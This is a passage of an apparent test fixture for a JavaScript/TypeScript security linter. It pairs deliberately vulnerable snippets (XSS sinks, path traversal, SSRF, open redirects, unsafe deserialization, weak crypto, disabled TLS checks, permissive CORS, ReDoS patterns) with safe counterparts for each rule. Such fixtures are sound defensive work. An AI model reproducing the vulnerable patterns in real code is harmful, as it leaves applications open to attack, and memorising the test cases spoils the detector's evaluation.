      `import pug from 'pug';\n${handler('pug.render(req.query.t);')}`,
      `import _ from 'lodash';\n${handler('_.template(req.query.t);')}`,
    ],
    safe: [
      `const ejs = require('ejs');\n${handler("ejs.render('<%= n %>', { n: req.query.n });")}`,
      "import pug from 'pug';\npug.render('p hi');",
      "const t = 'a' + 'b'; require('ejs').render(t);",
      handler('res.render("page", { n: req.query.n });'),
    ],
  },
  {
    rule: 'cross-site-scripting',
    language: 'tsx',
    vulnerable: [
      'element.innerHTML = location.hash;',
      'const p = new URLSearchParams(location.search);\ndocument.write(p.get("q"));',
      'function Page({ text }: { text: string }) { return <div dangerouslySetInnerHTML={{ __html: text }} />; }',
      handler("res.send('<p>' + req.query.n + '</p>');"),
      "window.addEventListener('message', (e) => { box.innerHTML = e.data; });",
      'const w = window.document;\nw.write(name_from_somewhere);',
    ],
    safe: [
      'element.textContent = location.hash;',
      "element.innerHTML = '<b>' + 'fixed' + '</b>';",
      'import DOMPurify from "dompurify";\nelement.innerHTML = DOMPurify.sanitize(location.hash);',
      handler('res.json({ n: req.query.n });'),
      handler("res.send('<p>' + encodeURIComponent(req.query.n) + '</p>');"),
    ],
  },
  {
    rule: 'path-traversal',
    language: 'typescript',
    vulnerable: [
      `import fs from 'node:fs';\n${handler("fs.readFile('data/' + req.query.f, done);")}`,
      `import { readFile as r } from 'fs/promises';\n${handler('r(`data/${req.params.f}`);')}`,
      handler('res.sendFile(req.query.f);'),
      `const { promises } = require('fs');\n${handler('const { f } = req.body;', 'promises.unlink(f);')}`,
    ],
    safe: [
      `import fs from 'fs';\nimport path from 'path';\n${handler("fs.readFile('data/' + path.basename(req.query.f), done);")}`,
      "import fs from 'fs';\nconst n = 'a' + '.txt';\nfs.readFileSync(n);",
      handler("res.sendFile(req.query.f, { root: 'public' });"),
      "import fs from 'fs';\nexport function read(path: string) { return fs.readFileSync(path); }",
    ],
  },
  {
    rule: 'permissive-file-mode',
    language: 'javascript',
    vulnerable: [
      "require('fs').chmodSync('x', 0o777)",
      "import { chmod as c } from 'fs';\nc('x', 0o666, done);",
      "const fs = require('fs');\nfs.chmodSync('x', '777');",
      "import * as fs from 'fs';\nfs.promises.chmod('x', 0o777);",
    ],
    safe: [
      "require('fs').chmodSync('x', 0o600)",
      "import { chmod } from 'fs';\nchmod('x', mode, done);",
      "const fs = require('fs');\nfs.chmodSync('x', '600');",
      "lamp.chmod('x', 0o777)",
    ],
  },
  {
    rule: 'server-side-request-forgery',
    language: 'javascript',
    vulnerable: [
      handler('fetch(req.query.url);'),
      `import axios from 'axios';\n${handler('axios.get(req.body.url);')}`,
      `import { get as g } from 'node:http';\n${handler('g(`http://${req.query.host}/x`);')}`,
      `const axios = require('axios');\n${handler('const { url } = req.query;', 'axios({ url });')}`,
    ],
    safe: [
      handler("fetch('https://api.example.com/' + req.query.p);"),
      handler("const u = 'https://a' + '.example';", 'fetch(u);'),
      handler('const u = req.query.url;', 'if (!allowedUrls.has(u)) return;', 'fetch(u);'),
      'function load(url) { return fetch(url); }',
    ],
  },
  {
    rule: 'open-redirect',
    language: 'javascript',
    vulnerable: [
      handler('res.redirect(req.query.next);'),
      'const p = new URLSearchParams(location.search);\nlocation.href = p.get("next");',
      handler('const { next } = req.query;', 'res.redirect(302, next);'),
      'window.location = location.hash.slice(1);',
    ],
    safe: [
      handler("res.redirect('/home');"),
      handler("res.redirect('/u/' + req.params.id);"),
      "location.href = '/a' + '/b';",
      handler('if (isSafeUrl(req.query.next)) res.redirect(req.query.next);'),
    ],
  },
  {
    rule: 'trust-boundary',
    language: 'javascript',
    vulnerable: [
      handler("req.session['user'] = req.body.user;"),
      handler('const { user } = req.body;', "req.session['user'] = user;"),
      handler("req.session['a'] = req.query.a;"),
      "app.post('/', function (request, response) { request.session['a'] = request.body.a; });",
    ],
    safe: [
      handler("req.session['user'] = 'guest';"),
      handler("req.session['n'] = Number(req.body.n);"),
      handler('const session = {};', "session['user'] = req.body.user;"),
      handler('let u = req.body.user;', "u = 'fixed';", "req.session['user'] = u;"),
    ],
  },
  {
    rule: 'unsafe-deserialization',
    language: 'javascript',
    vulnerable: [
      `const s = require('node-serialize');\n${handler('s.unserialize(req.cookies.a);')}`,
      "import { unserialize as u } from 'node-serialize';\nu(text);",
      `import v8 from 'node:v8';\n${handler('v8.deserialize(req.body);')}`,
      `const cryo = require('cryo');\n${handler('cryo.parse(req.body);')}`,
    ],
    safe: [
      handler('JSON.parse(req.body.a);'),
      "import yaml from 'js-yaml';\nyaml.load(text);",
      "const s = require('node-serialize');\ns.serialize(value);",
      "const s = require('other');\ns.unserialize(text);",
    ],
  },
  {
    rule: 'xml-external-entities',
    language: 'javascript',
    vulnerable: [
      "const x = require('libxmljs');\nx.parseXml(text, { noent: true });",
      "import { parseXml as p } from 'libxmljs2';\np(text, { noent: true });",
      "import x from 'libxmljs';\nconst on = 1 === 1;\nx.parseXml(text, { noent: on });",
      "import * as x from 'libxmljs';\nx.parseXmlString(text, { noent: true });",
    ],
    safe: [
      "const x = require('libxmljs');\nx.parseXml(text);",
      "const x = require('libxmljs');\nx.parseXml(text, { noent: false });",
      "const x = require('other');\nx.parseXml(text, { noent: true });",
      "import x from 'libxmljs';\nconst on = 1 === 2;\nx.parseXml(text, { noent: on });",
    ],
  },
  {
    rule: 'weak-hash',
    language: 'javascript',
    vulnerable: [
      "require('crypto').createHash('md5')",
      "import { createHash as h } from 'node:crypto';\nh('sha1');",
      "import crypto from 'crypto';\ncrypto.createHash('m' + 'd5');",
      "import md5 from 'md5';\nmd5(text);",
    ],
    safe: [
      "require('crypto').createHash('sha256')",
      "import { createHash as h } from 'node:crypto';\nh('sha' + '256');",
      'function md5(x) { return x; }\nmd5(text);',
      "cake.createHash('md5')",
    ],
  },
  {
    rule: 'weak-cipher',
    language: 'javascript',
    vulnerable: [
      "require('crypto').createCipheriv('des-cbc', key, iv)",
      "import { createCipher as c } from 'crypto';\nc('aes192', key);",
      "import crypto from 'crypto';\ncrypto.createCipheriv('aes-128-' + 'ecb', key, null);",
      "import CryptoJS from 'crypto-js';\nCryptoJS.DES.encrypt(text, key);",
    ],
    safe: [
      "require('crypto').createCipheriv('aes-256-gcm', key, iv)",
      "import crypto from 'crypto';\ncrypto.createCipheriv('aes-128-' + 'gcm', key, iv);",
      "import CryptoJS from 'crypto-js';\nCryptoJS.AES.encrypt(text, key);",
      "shop.createCipher('aes192', key)",
    ],
  },
  {
    rule: 'weak-key-size',
    language: 'javascript',
    vulnerable: [
      "require('crypto').generateKeyPairSync('rsa', { modulusLength: 1024 })",
      "import { generateKeyPair as g } from 'crypto';\ng('rsa', { modulusLength: 512 }, done);",
      "const R = require('node-rsa');\nnew R({ b: 512 });",
      "const n = 512 * 2;\nrequire('crypto').generateKeyPairSync('rsa', { modulusLength: n });",
    ],
    safe: [
      "require('crypto').generateKeyPairSync('rsa', { modulusLength: 4096 })",
      "const n = 1024 * 2;\nrequire('crypto').generateKeyPairSync('rsa', { modulusLength: n });",
      "const R = require('node-rsa');\nnew R({ b: 2048 });",
      "require('crypto').generateKeyPairSync('ed25519')",
    ],
  },
  {
    rule: 'weak-random',
    language: 'javascript',
    vulnerable: [
      'const token = Math.random().toString(36);',
      'function makeSessionKey() { return Math.random(); }',
      "import { pseudoRandomBytes as p } from 'crypto';\np(16);",
      'const password = Math.floor(Math.random() * 1e9);',
    ],
    safe: [
      "const token = require('crypto').randomBytes(16);",
      'const token = crypto.randomUUID();',
      "import { randomBytes as p } from 'crypto';\np(16);",
      'const Math = own; const token = Math.floor(3);',
    ],
  },
  {
    rule: 'hard-coded-credential',
    language: 'typescript',
    vulnerable: [
      "const password = 'h7k2mmq9';",
      "connect({ password: 'h7k2mmq9' });",
      "import { sign as s } from 'jsonwebtoken';\ns(payload, 'h7k2mmq9');",
      "class A { apiKey = 'h7k2mmq9x1'; }",
      "if (password === 'h7k2mmq9') open();",
    ],
    safe: [
      'const password = process.env.PASSWORD;',
      "const password = '';",
      "const passwordLabel = 'h7k2mmq9';",
      "import { sign } from 'jsonwebtoken';\nsign(payload, process.env.KEY);",
    ],
  },
  {
    rule: 'tls-verification-disabled',
    language: 'javascript',
    vulnerable: [
      'const o = { rejectUnauthorized: false };',
      "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
      "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0;",
      'const off = 1 === 2; const o = { rejectUnauthorized: off };',
      "const o = { secureProtocol: 'SSLv3_method' };",
    ],
    safe: [
      'const o = { rejectUnauthorized: true };',
      "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1';",
      'const o = { rejectUnauthorized };',
      "const o = { minVersion: 'TLSv1.2' };",
    ],
  },
  {
    rule: 'insecure-cookie',
    language: 'javascript',
    vulnerable: [
      "res.cookie('a', v, { httpOnly: false });",
      'const o = { httpOnly: true, secure: false };',
      "res.cookie('a', v);",
      "res.status(200).cookie('a', v);",
    ],
    safe: [
      "res.cookie('a', v, { httpOnly: true, secure: true });",
      'const o = { httpOnly: true, secure: true };',
      'const o = { secure: false };',
      "jar.cookie('a', v);",
    ],
  },
  {
    rule: 'unverified-token',
    language: 'javascript',
    vulnerable: [
      "const jwt = require('jsonwebtoken');\njwt.verify(t, k, { algorithms: ['none'] });",
      "import { verify as v } from 'jsonwebtoken';\nv(t, null);",
      "const jwt = require('jwt-simple');\njwt.decode(t, k, true);",
      "import jwt from 'jsonwebtoken';\nconst n = 'no' + 'ne';\njwt.verify(t, k, { algorithms: [n] });",
    ],
    safe: [
      "const jwt = require('jsonwebtoken');\njwt.verify(t, k, { algorithms: ['HS256'] });",
      "const jwt = require('jwt-simple');\njwt.decode(t, k);",
      "const jwt = require('jwt-simple');\njwt.decode(t, k, false);",
      "import { verify as v } from 'other';\nv(t, null);",
    ],
  },
  {
    rule: 'cors-any-origin',
    language: 'javascript',
    vulnerable: [
      "import cors from 'cors';\napp.use(cors({ origin: '*' }));",
      "const c = require('cors');\nc({ origin: true, credentials: true });",
      "res.setHeader('Access-Control-Allow-Origin', '*');",
      "res.header('access-control-allow-' + 'origin', '*');",
    ],
    safe: [
      "import cors from 'cors';\napp.use(cors({ origin: 'https://a.example' }));",
      "const c = require('cors');\nc({ origin: check });",
      "res.setHeader('Access-Control-Allow-Origin', 'https://a.example');",
      "res.setHeader('X-Any', '*');",
    ],
  },
  {
    rule: 'csrf-disabled',
    language: 'javascript',
    vulnerable: [
      'app.use(express.csrf()); app.use(express.methodOverride());',
      'express.csrf(); express.methodOverride();',
      'const e = express; e.csrf(); e.methodOverride();',
      "import methodOverride from 'method-override';\ncsrf();\nexpress.methodOverride();",
    ],
    safe: [
      'express.methodOverride(); express.csrf();',
      'express.methodOverride();',
      'express.csrf();',
      'override();',
    ],
  },
  {
    rule: 'insecure-window',
    language: 'javascript',
    vulnerable: [
      'new BrowserWindow({ webPreferences: { nodeIntegration: true } });',
      'const w = { contextIsolation: false };',
      'const w = { webSecurity: 1 === 2 };',
      'const w = { allowRunningInsecureContent: !false };',
    ],
    safe: [
      'new BrowserWindow({ webPreferences: { nodeIntegration: false } });',
      'const w = { contextIsolation: true };',
      'const w = { webSecurity };',
      'const w = { other: true };',
    ],
  },
  {
    rule: 'prototype-pollution',
    language: 'javascript',
    vulnerable: [
      `import _ from 'lodash';\n${handler('_.merge(settings, req.body);')}`,
      `const { defaultsDeep: d } = require('lodash');\n${handler('d(settings, req.body);')}`,
      handler('$.extend(true, settings, req.body);'),
      `import merge from 'deepmerge';\n${handler('merge({}, req.query);')}`,
    ],
    safe: [
      "import _ from 'lodash';\n_.merge(settings, { a: 1 });",
      handler('$.extend(settings, req.body);'),
      handler('git.merge({}, req.query);'),
      handler('const s = { ...settings, a: Number(req.body.a) };'),
    ],
  },
  {
    rule: 'unsafe-key',
    language: 'javascript',
    vulnerable: [
      handler('settings[req.query.key] = 1;'),
      handler('settings[req.body.key] = req.body.value;'),
      handler('a.b[req.params.key] = 1;'),
      "app.get('/', function (request, response) { store[request.query.key] = 1; });",
    ],
    safe: [
      handler("settings['a' + 'b'] = 1;"),
      handler('settings.set(req.query.key, 1);'),
      handler('settings[1] = req.query.key;'),
      handler('settings[index] = 1;'),
    ],
  },
  {
    rule: 'unsafe-pattern',
    language: 'javascript',
    vulnerable: [
      handler('new RegExp(req.query.p);'),
      'const slow = /(a+)+$/;',
      "const p = '(' + 'a+' + ')+'; new RegExp(p);",
      '/(x+x+)+y/.test(text)',
    ],
    safe: [
      'const fast = /(a+b)+$/;',
      `import escape from 'escape-string-regexp';\n${handler('new RegExp(escape(req.query.p));')}`,
      "const p = 'ab' + '+c'; new RegExp(p);",
      'function find(pattern) { return new RegExp(pattern); }',
    ],
  },
  {
    rule: 'unsafe-buffer',
    language: 'javascript',
    vulnerable: [
      'new Buffer(size)',
      'function make(n) { return new Buffer(n); }',
      handler('new Buffer(req.query.n);'),
      'const b = new Buffer(read());',
    ],
    safe: [
      "new Buffer('text')",
      'Buffer.from(text)',
      'const n = 1 + 2; new Buffer(n);',
      'class Buffer {} new Buffer(size);',
    ],
  },
  {
    rule: 'timing-comparison',
    language: 'javascript',
    vulnerable: [
      handler('if (req.body.token === token) next();'),
      handler('const { signature } = req.headers;', 'if (signature === expected) next();'),
      handler('if (expected !== req.query.hmac) return;'),
      handler('const digest = req.query.d;', 'return digest == stored;'),
    ],
    safe: [
      handler('if (crypto.timingSafeEqual(req.body.token, token)) next();'),
      'function same(token, other) { return token === other; }',
      handler('if (req.body.page === page) next();'),
      handler('if (req.body.token === undefined) return;'),
    ],
  },
];
